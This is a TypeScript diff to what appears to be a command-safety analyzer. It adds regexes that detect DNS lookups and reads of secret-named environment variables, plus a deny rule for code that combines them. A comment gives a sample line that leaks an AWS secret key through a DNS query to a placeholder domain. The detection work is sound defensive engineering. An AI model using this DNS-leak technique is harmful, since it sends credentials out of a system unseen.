@@ -1922,6 +1922,11 @@ function judgeForkLoops(s: Scope): void {
  * `python -c`, `node -e`, `perl -e` ... and by the shell analysis for
  * scripts fed on stdin or by heredoc (`python3 <<EOF`).
  */
+/** Host-name lookups in the languages loom reads. */
+const DNS_LOOKUP = /\b(?:gethostbyname(?:_ex)?|getaddrinfo|gethostbyaddr|dns(?:['"]\))?\.(?:lookup|resolve\w*|promises\.\w+)|Resolv(?:::DNS)?(?:\.new)?\.(?:getaddress\w*|getresource\w*)|Socket\.getaddrinfo|net\.LookupHost|dns_get_record|gethostbyname)\s*\(/;
+/** A read of an environment variable named like a secret. */
+const SECRET_ENV_READ = /(?:os\.environ(?:\.get)?|os\.getenv|process\.env|getenv|ENV|\$ENV|Deno\.env\.get)\s*[[.({]\s*["']?[A-Z0-9_]*(?:TOKEN|SECRET|PASSW|API_?KEY|ACCESS_KEY|PRIVATE|CREDENTIAL)[A-Z0-9_]*/i;
+
 export function analyzeInterpreterCode(lang: Language, code: string, ctx: CodeContext): void {
   if (ctx.depth > MAX_DEPTH) {
     ctx.analyzer.hit('unparseable', 'ask', ctx.segment, `interpreter code nested more than ${MAX_DEPTH} levels deep`);
@@ -1932,6 +1937,9 @@ export function analyzeInterpreterCode(lang: Language, code: string, ctx: CodeCo
     return;
   }
   if (lang === 'powershell') return;
+  // A name looked up that holds a secret variable (`gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'] + '.x.example')`):
+  // the secret leaves in the DNS query, whatever the code does with the answer.
+  if (DNS_LOOKUP.test(code) && SECRET_ENV_READ.test(code)) ctx.analyzer.hit('env-exfiltration', 'deny', ctx.segment, `${lang} code looks up a host name built from a secret environment variable: the secret leaves in the DNS query`);
   if (lang === 'tcl') {
     tclCommands(code, ctx);
     return;
